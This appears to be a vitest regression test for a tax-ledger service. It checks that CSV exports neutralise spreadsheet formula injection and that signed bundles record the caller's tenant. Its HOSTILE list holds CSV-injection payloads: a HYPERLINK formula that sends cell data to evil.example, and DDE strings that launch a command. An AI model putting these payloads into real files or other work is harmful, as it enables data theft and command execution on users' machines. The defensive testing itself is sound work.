/**
 * Issue 19, finding 10 (over HTTP, where it was found): CSV outputs carried ledger text such as
 * `=HYPERLINK(…)` that a spreadsheet runs as a formula, and a bundle's signed body carried whatever
 * `institution` string the caller typed instead of the tenant it came from.
 */
import { describe, expect, it } from 'vitest';
import { parseCsv } from '../../src/reporting/ledger/csv.js';
import { readLedgerCsv } from '../../src/reporting/ledger/index.js';
import { csvLine } from '../../src/reporting/forms/index.js';
import { HEADER, TAX, world } from './reporting-world.js';

const FORMULA = /^[=+\-@\t\r]/;
const NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)$/;

/** Hostile text in every free-text ledger field that reaches a form: accounts and trade ids. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
];
const csvText = (s: string) => `"${s.replace(/"/g, '""')}"`;
const LEDGER = [
  HEADER,
  ...HOSTILE.flatMap((account, i) => [
    `2025-02-01T00:00:00Z,${csvText(account)},BTC,buy,0.5,40000,USD,,,V,${csvText(`${HOSTILE[(i + 1) % 4]}-b`)},spot`,
    `2026-03-01T00:00:00Z,${csvText(account)},BTC,sell,0.2,45000,USD,,,V,${csvText(`${HOSTILE[(i + 2) % 4]}-s`)},spot`,
  ]),
].join('\n');

/** Every cell of a CSV document, read back with the project's own RFC 4180 reader. */
async function cells(text: string): Promise<string[][]> {
  const rows: string[][] = [];
  for await (const rec of parseCsv([text])) rows.push(rec.fields);
  return rows;
}

describe('CSV outputs neutralise formula-like cells (OWASP CSV injection)', () => {
  it('quote-prefixes every cell that starts with = + - @ tab or CR in 8949 and 1099-DA CSV, and keeps negative amounts numeric', async () => {
    const w = await world();
    expect((await w.importCsv(LEDGER)).status).toBe(201);
    for (const format of ['8949', '1099da-csv'] as const) {
      const r = await w.tax({ ...TAX, format });
      expect(r.status, format).toBe(200);
      const table = await cells(r.text);
      expect(table.length, format).toBeGreaterThan(4);
      const all = table.flat();
      expect(
        all.filter((c) => FORMULA.test(c) && !NUMBER.test(c)),
        format,
      ).toEqual([]);
      // the hostile text is still there, as text
      for (const h of HOSTILE) expect(all, format).toContain(`'${h}`);
    }
  });

  it('neutralises tab and CR starts too, and leaves plain numbers and ordinary text alone', async () => {
    const line = csvLine(['\tx', '\r=1', '-12.34', '+5', '=1+2', 'alice', '-', '']);
    const [fields] = await cells(line);
    expect(fields).toEqual(["'\tx", "'\r=1", '-12.34', '+5', "'=1+2", 'alice', "'-", '']);
  });

  it('accepts the hostile text as ordinary ledger text (the fix is in the output, not the import)', async () => {
    const fills = [];
    for await (const f of readLedgerCsv([LEDGER])) fills.push(f);
    expect(fills).toHaveLength(8);
  });
});

describe("a bundle's signed body names the tenant that produced it", () => {
  it('signs the caller tenant as institution and refuses a caller-typed institution', async () => {
    const w = await world();
    await w.importCsv(LEDGER);
    const typed = await w.createBundle({
      source: 'records',
      kind: 'generic',
      period: '2026',
      institution: 'Globex Bank plc',
      records: [{ id: 'r1' }],
    });
    expect([typed.status, typed.body.code, typed.body.details.issues[0].path]).toEqual([400, 'INPUT_INVALID', '/body']);
    const made = await w.createBundle({ source: 'records', kind: 'generic', period: '2026', records: [{ id: 'r1' }] });
    expect(made.status).toBe(201);
    expect(made.body.institution).toBe('acme');
    const bundle = (await w.getBundle(made.body.id, w.acme.institution)).body.bundle;
    expect(bundle.institution).toBe('acme');
    expect((await w.verify(bundle)).body.ok).toBe(true);
    // the institution is inside the signature: relabelling the bundle breaks it
    const relabelled = await w.verify({ ...bundle, institution: 'Globex Bank plc' });
    expect(relabelled.body.ok).toBe(false);
    expect(relabelled.body.checks.find((c: any) => c.name === 'signature').ok).toBe(false);
  });
});
